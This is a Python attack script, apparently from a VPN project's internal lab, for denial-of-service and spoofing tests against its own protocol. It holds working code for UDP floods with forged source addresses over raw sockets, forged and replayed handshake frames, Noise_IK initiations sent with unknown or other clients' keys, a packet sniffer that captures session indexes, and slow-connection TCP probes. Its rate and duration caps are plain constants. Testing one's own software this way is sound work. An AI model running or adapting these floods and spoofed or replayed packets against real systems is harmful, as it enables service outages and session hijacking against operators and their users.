#!/usr/bin/env python3
"""The attacker's side of the lab's denial-of-service tests (issue 15).

Runs inside a lab namespace (ip netns exec NS python3 attack.py ...); sends
only to the address it is given, which is always one of the run's own
namespaces (/work/shared/lab-rules.md). Every flood is bounded: rates,
durations, counts and port numbers are capped below (RATE_CAP, DURATION_CAP,
COUNT_CAP, PORTS_CAP) whatever the arguments say, and a flood stops by
itself (and on SIGTERM/SIGINT) and prints what it sent.

  attack.py capture-index DEV PORT [--client ADDR] [--timeout S] [--save-init FILE]
      Learn a session index as an on-path observer: an AF_PACKET socket on
      DEV (e.g. the server's veth, in the server's namespace) watches UDP
      datagrams to and from PORT and prints, for the first datagram that
      carries a session index (header flag 0x01, index != 0), one line
      "index HEX peer ADDR:PORT" (the client's address and port), then exits
      0. With --client only that client's datagrams count. With --save-init
      it first waits for that client's first HANDSHAKE datagram with index 0
      (a cipher_noise initiation) and writes the whole datagram to FILE (for
      replays). Exits 1 after --timeout seconds (default 20) without one.

  attack.py capture-tcp-init DEV PORT --client ADDR --out FILE [--timeout S]
      The same observer over TCP: writes the first HANDSHAKE frame (header
      and body, as sent in one segment) that ADDR sends to PORT to FILE, and
      prints "saved initiation frame of N bytes". Exits 1 after --timeout
      seconds (default 20) without one.

  attack.py tcp-probe HOST PORT (--frame FILE | --random N) [--count N] [--timeout S]
      COUNT times (default 3, at most 20): connect over TCP, send the frame
      (FILE: a whole frame, e.g. from capture-tcp-init; --random N: a
      HANDSHAKE frame with N random body bytes), and time how long the server
      keeps the connection open (until EOF or reset, at most --timeout s,
      default 10). Prints one line per probe "probe K: closed after S s, B
      bytes received" ("still open after" when it was not closed), then
      "max S s, bytes B".

  attack.py send HOST PORT --type T --body B [--index I] [--count N] [--rate R]
                [--spoof ADDR[:PORT]] [--xor-key FILE] [--server-pub B64]
      Send COUNT (default 1) copies of one forged frame as UDP datagrams to
      HOST:PORT from this namespace's own address (a fresh socket), or, with
      --spoof, with a forged source address and port (raw socket,
      IP_HDRINCL). Each copy's random parts are drawn again.

  attack.py flood HOST PORT --type T --body B [--index I] --rate R --duration S
                [--ports N | --spoof-range CIDR] [--count N] [--xor-key FILE]
                [--server-pub B64] [--pool N]
      Send datagrams at R a second for S seconds (at most COUNT): from N
      sockets of this namespace's own address (--ports, default 1; source
      ports round-robin, e.g. one IP from 512 ports), or with forged sources
      drawn at random from CIDR and random source ports (--spoof-range, raw
      socket). Prints "flood: sent N datagrams (B bytes) in T s (R/s), E
      send errors" on the last line.

Frame options (docs/protocol.md sections 2, 4 and 11):
  --type    hello, welcome, data, keepalive, bye, reject, handshake, or a number
  --index   session index, hex (e.g. 1a2b3c4d); "0" = flags 0x01 with index 0
            (a stock client's first datagram); "none" = flags 0 (default "0")
  --body    random:N        N random bytes
            seq:N           N bytes counting up from 0 (big-endian): one
                            datagram never repeats the last one (a server drops
                            a HANDSHAKE equal to the last one as a copy)
            prefixed:HEX:N  these bytes, then N random bytes (e.g. 00: cipher_noise's
                            key id 0 in front of junk, so that it reaches the tag check)
            hex:HEX         these bytes
            xor-sealed:HEX  these bytes sealed with --xor-key (cipher_xor)
            hello-xor       a valid HELLO (version 1) sealed with --xor-key
            hello-xor-v:V   a HELLO with version V, sealed with --xor-key
            noise-init:unknown  a real Noise_IK initiation (to --server-pub;
                            --noise-version 2, the default: with mac1; 1: the
                            109-byte message of vpnhost before issue 15)
                            from a fresh random static key the server does not
                            know (a pool of --pool such, default 16, reused)
            noise-init:FILE a real initiation with the private key in FILE
                            (e.g. another authorized client's)
            datagram:FILE   the whole datagram from FILE (e.g. a captured
                            initiation, see capture-index --save-init);
                            --type and --index are ignored
            garbage:N       the whole datagram is N random bytes (no valid
                            header in general); N = 0: 1..200 random
"""
import argparse
import base64
import errno
import hashlib
import hmac
import ipaddress
import os
import random
import signal
import socket
import struct
import sys
import time

RATE_CAP = 50000        # datagrams a second
DURATION_CAP = 60.0     # seconds
COUNT_CAP = 3_000_000   # datagrams per run
PORTS_CAP = 1024        # source sockets
SEND_COUNT_CAP = 100000

TYPES = {"hello": 1, "welcome": 2, "data": 3, "keepalive": 4, "bye": 5, "reject": 6, "handshake": 7}
MAX_BODY = 9216

stop = False


def on_signal(*_):
    global stop
    stop = True


# ------------------------------------------------------------ checksums ---

def checksum(data: bytes) -> int:
    if len(data) % 2:
        data += b"\0"
    s = sum(struct.unpack("!%dH" % (len(data) // 2), data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF


def ipv4_udp(src: str, sport: int, dst: str, dport: int, payload: bytes, ident: int = 0, fast: bool = False) -> bytes:
    """A whole IPv4/UDP packet with source SRC:SPORT (for IP_HDRINCL). FAST:
    UDP checksum 0 ("none", valid over IPv4) and the IP header checksum left
    to the kernel (raw(7): always filled in), for floods."""
    s, d = socket.inet_aton(src), socket.inet_aton(dst)
    udp_len = 8 + len(payload)
    udp = struct.pack("!HHHH", sport, dport, udp_len, 0) + payload
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + udp_len, ident & 0xFFFF, 0, 64, socket.IPPROTO_UDP, 0, s, d)
    if fast:
        return ip + udp
    csum = checksum(s + d + struct.pack("!BBH", 0, socket.IPPROTO_UDP, udp_len) + udp) or 0xFFFF
    udp = udp[:6] + struct.pack("!H", csum) + udp[8:]
    return ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:] + udp


# ------------------------------------------------------ Noise_IK (init) ---
# An independent initiator (as tests/lab/test_noise_identity.sh): the
# message an unknown or another client's key sends (docs/security.md).

def noise_crypto():
    try:
        from cryptography.hazmat.primitives.asymmetric.x25519 import X25519PrivateKey, X25519PublicKey
        from cryptography.hazmat.primitives.ciphers.aead import ChaCha20Poly1305
        from cryptography.hazmat.primitives import serialization
    except ImportError:
        sys.exit("attack.py: noise-init needs python3-cryptography")
    return X25519PrivateKey, X25519PublicKey, ChaCha20Poly1305, serialization


def _H(*parts):
    h = hashlib.blake2b(digest_size=64)
    for p in parts:
        h.update(p)
    return h.digest()


def _hkdf(ck, ikm):
    t = hmac.new(ck, ikm, hashlib.blake2b).digest()
    o1 = hmac.new(t, b"\x01", hashlib.blake2b).digest()
    return o1, hmac.new(t, o1 + b"\x02", hashlib.blake2b).digest()


def noise_initiation(static_priv, server_pub: bytes, key_id: int = 0, version: int = 2) -> bytes:
    """Version 2 (docs/security.md 3.2): prologue vpnhost-noise-v2, the
    109-byte Noise message, then mac1 (keyed BLAKE2b-128 under
    BLAKE2b-256("mac1----" || server key) over those 109 bytes) and mac2
    (16 zero bytes: no cookie), 141 bytes. Version 1: prologue
    vpnhost-noise-v1, the 109 bytes alone (vpnhost before issue 15)."""
    X25519PrivateKey, X25519PublicKey, ChaCha20Poly1305, serialization = noise_crypto()
    raw = serialization.Encoding.Raw, serialization.PublicFormat.Raw

    def pub(k):
        return k.public_key().public_bytes(*raw)

    def dh(k, p):
        return k.exchange(X25519PublicKey.from_public_bytes(p))

    h = b"Noise_IK_25519_ChaChaPoly_BLAKE2b".ljust(64, b"\0")
    ck = h
    h = _H(h, b"vpnhost-noise-v%d" % version)
    h = _H(h, server_pub)
    e = X25519PrivateKey.generate()
    epub = pub(e)
    msg = epub
    h = _H(h, epub)
    ck, k = _hkdf(ck, dh(e, server_pub))
    ct = ChaCha20Poly1305(k[:32]).encrypt(b"\0" * 12, pub(static_priv), h)
    msg += ct
    h = _H(h, ct)
    ck, k = _hkdf(ck, dh(static_priv, server_pub))
    t = time.time_ns()
    tai = struct.pack(">QI", (1 << 62) + 10 + t // 10**9, (t % 10**9) & ~0xFFFFFF)
    ct = ChaCha20Poly1305(k[:32]).encrypt(b"\0" * 12, tai + bytes([key_id]), h)
    msg += ct
    if version >= 2:
        mac1_key = hashlib.blake2b(b"mac1----" + server_pub, digest_size=32).digest()
        msg += hashlib.blake2b(msg, digest_size=16, key=mac1_key).digest() + bytes(16)
    return msg


def load_x25519(path: str):
    X25519PrivateKey = noise_crypto()[0]
    return X25519PrivateKey.from_private_bytes(base64.b64decode(open(path).read()))


# --------------------------------------------------------------- frames ---

def xor(key: bytes, body: bytes) -> bytes:
    return bytes(b ^ key[i % len(key)] for i, b in enumerate(body))


def frame(ftype: int, index, body: bytes) -> bytes:
    if index is None:
        return struct.pack("!HBB", len(body), ftype, 0) + body
    return struct.pack("!HBBI", len(body), ftype, 1, index) + body


class Datagrams:
    """Makes the datagrams a send or a flood sends (random parts drawn anew)."""

    def __init__(self, a):
        self.whole = None  # fixed whole datagram
        self.garbage = None
        self.pool = []
        self.pool_i = 0
        self.ftype = TYPES.get(a.type, None) if a.type else None
        if a.type and self.ftype is None:
            self.ftype = int(a.type, 0)
        if a.index == "none":
            self.index = None
        else:
            self.index = int(a.index, 16)
        b = a.body
        self.kind, _, arg = b.partition(":")
        if self.kind == "datagram":
            self.whole = open(arg, "rb").read()
            return
        if self.kind == "garbage":
            self.garbage = int(arg or "0")
            return
        if self.ftype is None:
            sys.exit("attack.py: --type is required for --body %s" % b)
        if self.kind == "random":
            self.prefix, self.n = b"", int(arg)
        elif self.kind == "seq":
            self.n, self.seq = int(arg), 0
        elif self.kind == "prefixed":
            h, _, n = arg.partition(":")
            self.kind, self.prefix, self.n = "random", bytes.fromhex(h), int(n)
        elif self.kind == "hex":
            self.fixed = frame(self.ftype, self.index, bytes.fromhex(arg))
        elif self.kind == "xor-sealed":
            if not a.xor_key:
                sys.exit("attack.py: --body xor-sealed needs --xor-key")
            key = base64.b64decode(open(a.xor_key).read())
            self.fixed = frame(self.ftype, self.index, xor(key, bytes.fromhex(arg)))
        elif self.kind in ("hello-xor", "hello-xor-v"):
            if not a.xor_key:
                sys.exit("attack.py: --body %s needs --xor-key" % self.kind)
            key = base64.b64decode(open(a.xor_key).read())
            version = int(arg) if self.kind == "hello-xor-v" else 1
            hello = b"VPNH" + struct.pack("!HHHH", version, 0, MAX_BODY, 0)
            self.fixed = frame(self.ftype, self.index, xor(key, hello))
        elif self.kind == "noise-init":
            if not a.server_pub:
                sys.exit("attack.py: --body noise-init needs --server-pub")
            spub = base64.b64decode(a.server_pub)
            if arg == "unknown":
                X25519PrivateKey = noise_crypto()[0]
                self.pool = [frame(self.ftype, self.index,
                                   noise_initiation(X25519PrivateKey.generate(), spub, version=a.noise_version))
                             for _ in range(max(1, min(a.pool, 4096)))]
            else:
                key = load_x25519(arg)
                self.pool = [frame(self.ftype, self.index, noise_initiation(key, spub, version=a.noise_version))]
        else:
            sys.exit("attack.py: unknown --body %s" % b)

    def next(self) -> bytes:
        if self.whole is not None:
            return self.whole
        if self.garbage is not None:
            n = self.garbage or random.randint(1, 200)
            return os.urandom(n)
        if self.kind == "random":
            return frame(self.ftype, self.index, self.prefix + os.urandom(self.n))
        if self.kind == "seq":
            self.seq += 1
            return frame(self.ftype, self.index, ((self.seq - 1) % (256 ** self.n)).to_bytes(self.n, "big"))
        if self.pool:
            d = self.pool[self.pool_i % len(self.pool)]
            self.pool_i += 1
            return d
        return self.fixed


# ------------------------------------------------------------- senders ---

class OwnSender:
    """From this namespace's own address: N sockets, ports round-robin."""

    def __init__(self, host, port, nports):
        self.dst = (host, port)
        self.socks = []
        for _ in range(max(1, min(nports, PORTS_CAP))):
            s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
            s.setblocking(False)
            s.bind(("0.0.0.0", 0))
            self.socks.append(s)
        self.i = 0

    def send(self, d: bytes) -> bool:
        s = self.socks[self.i % len(self.socks)]
        self.i += 1
        try:
            s.sendto(d, self.dst)
            return True
        except OSError as e:
            if e.errno in (errno.EAGAIN, errno.ENOBUFS, errno.ECONNREFUSED, errno.EPERM):
                return False
            raise

    def describe(self):
        return "%s from %d port(s) of this host" % (self.dst, len(self.socks))


class SpoofSender:
    """Forged sources (IP_HDRINCL): a fixed ADDR[:PORT] or random in a CIDR."""

    def __init__(self, host, port, fixed=None, cidr=None):
        self.host, self.port = host, port
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
        self.sock.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
        self.sock.setblocking(False)
        self.fixed = fixed
        self.fast = cidr is not None
        if cidr:
            net = ipaddress.ip_network(cidr, strict=False)
            if net.version != 4 or net.num_addresses < 1:
                sys.exit("attack.py: --spoof-range must be an IPv4 network")
            self.base, self.size = int(net.network_address), net.num_addresses
        self.ident = random.randint(0, 0xFFFF)

    def send(self, d: bytes) -> bool:
        if self.fixed:
            src, sport = self.fixed
        else:
            src = socket.inet_ntoa(struct.pack("!I", self.base + random.randrange(self.size)))
            sport = random.randint(1024, 65535)
        self.ident += 1
        try:
            self.sock.sendto(ipv4_udp(src, sport, self.host, self.port, d, self.ident, self.fast), (self.host, 0))
            return True
        except OSError as e:
            if e.errno in (errno.EAGAIN, errno.ENOBUFS, errno.EPERM):
                return False
            raise

    def describe(self):
        if self.fixed:
            return "%s:%d from forged source %s:%d" % (self.host, self.port, *self.fixed)
        return "%s:%d from forged sources in a range of %d addresses" % (self.host, self.port, self.size)


def run(sender, gen, rate, duration, count):
    """Sends at RATE/s for DURATION s, at most COUNT; returns (sent, bytes, errors, seconds)."""
    rate = max(1.0, min(float(rate), RATE_CAP))
    duration = max(0.0, min(float(duration), DURATION_CAP))
    count = max(0, min(int(count), COUNT_CAP))
    sent = nbytes = errors = 0
    t0 = time.monotonic()
    while not stop and sent + errors < count:
        now = time.monotonic()
        if now - t0 >= duration:
            break
        due = min(count, int((now - t0) * rate) + 1)
        burst = 0
        while sent + errors < due and burst < 256 and not stop:
            d = gen.next()
            if sender.send(d):
                sent += 1
                nbytes += len(d)
            else:
                errors += 1
            burst += 1
        if sent + errors >= due:
            # Sleep until the next datagram is due (at least 1 ms: bursts).
            wait = (sent + errors + 1) / rate - (time.monotonic() - t0)
            if wait > 0:
                time.sleep(min(max(wait, 0.001), 0.05))
    return sent, nbytes, errors, time.monotonic() - t0


def parse_spoof(text):
    host, _, port = text.partition(":")
    return host, int(port) if port else random.randint(1024, 65535)


def cmd_send(a):
    gen = Datagrams(a)
    sender = SpoofSender(a.host, a.port, fixed=parse_spoof(a.spoof)) if a.spoof else OwnSender(a.host, a.port, 1)
    count = min(a.count, SEND_COUNT_CAP)
    sent, nbytes, errors, secs = run(sender, gen, a.rate, DURATION_CAP, count)
    print("send: %d datagram(s) (%d bytes) to %s in %.2f s, %d send errors" %
          (sent, nbytes, sender.describe(), secs, errors), flush=True)
    return 0 if sent == count else 1


def cmd_flood(a):
    if a.rate > RATE_CAP or a.duration > DURATION_CAP:
        print("flood: capped at %d/s and %.0f s" % (RATE_CAP, DURATION_CAP), flush=True)
    gen = Datagrams(a)
    if a.spoof_range:
        sender = SpoofSender(a.host, a.port, cidr=a.spoof_range)
    else:
        sender = OwnSender(a.host, a.port, a.ports)
    print("flood: %s, %g/s for %g s" % (sender.describe(), min(a.rate, RATE_CAP), min(a.duration, DURATION_CAP)),
          flush=True)
    count = a.count if a.count else int(min(a.rate, RATE_CAP) * min(a.duration, DURATION_CAP)) + 1
    sent, nbytes, errors, secs = run(sender, gen, a.rate, a.duration, count)
    print("flood: sent %d datagrams (%d bytes) in %.2f s (%.0f/s), %d send errors" %
          (sent, nbytes, secs, sent / secs if secs > 0 else 0, errors), flush=True)
    return 0


# ------------------------------------------------------------- capture ---

def cmd_capture(a):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))  # ETH_P_ALL: both directions
    s.bind((a.dev, 0))
    print("capturing on %s" % a.dev, flush=True)
    deadline = time.monotonic() + min(a.timeout, 120.0)
    need_init = bool(a.save_init)
    while not stop:
        left = deadline - time.monotonic()
        if left <= 0:
            print("capture: nothing within %.0f s" % a.timeout, flush=True)
            return 1
        s.settimeout(left)
        try:
            pkt, _ = s.recvfrom(65535)
        except socket.timeout:
            continue
        if pkt[12:14] != b"\x08\x00":
            continue
        ip = pkt[14:]
        if len(ip) < 28 or ip[9] != 17 or (ip[6] & 0x3F) or ip[7]:  # UDP, not a fragment
            continue
        ihl = (ip[0] & 15) * 4
        src, dst = socket.inet_ntoa(ip[12:16]), socket.inet_ntoa(ip[16:20])
        sport, dport = struct.unpack("!HH", ip[ihl:ihl + 4])
        d = ip[ihl + 8:struct.unpack("!H", ip[2:4])[0]]
        if dport == a.port:
            peer = (src, sport)
        elif sport == a.port:
            peer = (dst, dport)
        else:
            continue
        if a.client and peer[0] != a.client:
            continue
        if len(d) < 8 or not d[3] & 1:  # flags 0x01: an index (0x02 too: a client's cookie field after it)
            continue
        index = struct.unpack("!I", d[4:8])[0]
        if need_init:
            if dport == a.port and d[2] == TYPES["handshake"] and index == 0:
                with open(a.save_init, "wb") as f:
                    f.write(d)
                print("saved initiation of %d bytes from %s:%d" % (len(d), *peer), flush=True)
                need_init = False
            continue
        if index != 0:
            print("index %08x peer %s:%d" % (index, *peer), flush=True)
            return 0
    return 1


def cmd_capture_tcp(a):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
    s.bind((a.dev, 0))
    print("capturing on %s" % a.dev, flush=True)
    deadline = time.monotonic() + min(a.timeout, 120.0)
    while not stop:
        left = deadline - time.monotonic()
        if left <= 0:
            print("capture: nothing within %.0f s" % a.timeout, flush=True)
            return 1
        s.settimeout(left)
        try:
            pkt, _ = s.recvfrom(65535)
        except socket.timeout:
            continue
        if pkt[12:14] != b"\x08\x00":
            continue
        ip = pkt[14:]
        if len(ip) < 40 or ip[9] != 6 or socket.inet_ntoa(ip[12:16]) != a.client:
            continue
        ihl = (ip[0] & 15) * 4
        tcp = ip[ihl:struct.unpack("!H", ip[2:4])[0]]
        if struct.unpack("!H", tcp[2:4])[0] != a.port:
            continue
        d = tcp[(tcp[12] >> 4) * 4:]
        if len(d) < 4 or d[2] != TYPES["handshake"] or d[3] != 0:
            continue
        n = struct.unpack("!H", d[:2])[0]
        if len(d) < 4 + n:
            continue
        with open(a.out, "wb") as f:
            f.write(d[:4 + n])
        print("saved initiation frame of %d bytes" % (4 + n), flush=True)
        return 0
    return 1


def cmd_tcp_probe(a):
    if a.frame:
        data = open(a.frame, "rb").read()
    else:
        data = frame(TYPES["handshake"], None, os.urandom(a.random))
    worst, total = 0.0, 0
    for k in range(1, max(1, min(a.count, 20)) + 1):
        if stop:
            break
        c = socket.create_connection((a.host, a.port), timeout=5)
        t0 = time.monotonic()
        c.sendall(data)
        got, closed = 0, False
        c.settimeout(0.05)
        while time.monotonic() - t0 < min(a.timeout, 30.0) and not stop:
            try:
                d = c.recv(65536)
            except socket.timeout:
                continue
            except (ConnectionResetError, BrokenPipeError):
                closed = True
                break
            if not d:
                closed = True
                break
            got += len(d)
        secs = time.monotonic() - t0
        c.close()
        worst, total = max(worst, secs), total + got
        print("probe %d: %s %.2f s, %d bytes received" % (k, "closed after" if closed else "still open after", secs, got),
              flush=True)
    print("max %.2f s, bytes %d" % (worst, total), flush=True)
    return 0


def main():
    signal.signal(signal.SIGTERM, on_signal)
    signal.signal(signal.SIGINT, on_signal)
    p = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    sub = p.add_subparsers(dest="cmd", required=True)

    c = sub.add_parser("capture-index")
    c.add_argument("dev")
    c.add_argument("port", type=int)
    c.add_argument("--client")
    c.add_argument("--timeout", type=float, default=20.0)
    c.add_argument("--save-init")

    t = sub.add_parser("capture-tcp-init")
    t.add_argument("dev")
    t.add_argument("port", type=int)
    t.add_argument("--client", required=True)
    t.add_argument("--out", required=True)
    t.add_argument("--timeout", type=float, default=20.0)

    r = sub.add_parser("tcp-probe")
    r.add_argument("host")
    r.add_argument("port", type=int)
    g = r.add_mutually_exclusive_group(required=True)
    g.add_argument("--frame")
    g.add_argument("--random", type=int)
    r.add_argument("--count", type=int, default=3)
    r.add_argument("--timeout", type=float, default=10.0)

    def frame_args(q):
        q.add_argument("host")
        q.add_argument("port", type=int)
        q.add_argument("--type")
        q.add_argument("--body", required=True)
        q.add_argument("--index", default="0")
        q.add_argument("--xor-key")
        q.add_argument("--server-pub")
        q.add_argument("--pool", type=int, default=16)
        q.add_argument("--noise-version", type=int, choices=(1, 2), default=2)
        q.add_argument("--count", type=int, default=0)

    s = sub.add_parser("send")
    frame_args(s)
    s.add_argument("--rate", type=float, default=1000.0)
    s.add_argument("--spoof")

    f = sub.add_parser("flood")
    frame_args(f)
    f.add_argument("--rate", type=float, required=True)
    f.add_argument("--duration", type=float, required=True)
    g = f.add_mutually_exclusive_group()
    g.add_argument("--ports", type=int, default=1)
    g.add_argument("--spoof-range")

    a = p.parse_args()
    if a.cmd == "capture-index":
        return cmd_capture(a)
    if a.cmd == "capture-tcp-init":
        return cmd_capture_tcp(a)
    if a.cmd == "tcp-probe":
        return cmd_tcp_probe(a)
    if a.cmd == "send":
        a.count = a.count or 1
        return cmd_send(a)
    return cmd_flood(a)


if __name__ == "__main__":
    sys.exit(main())
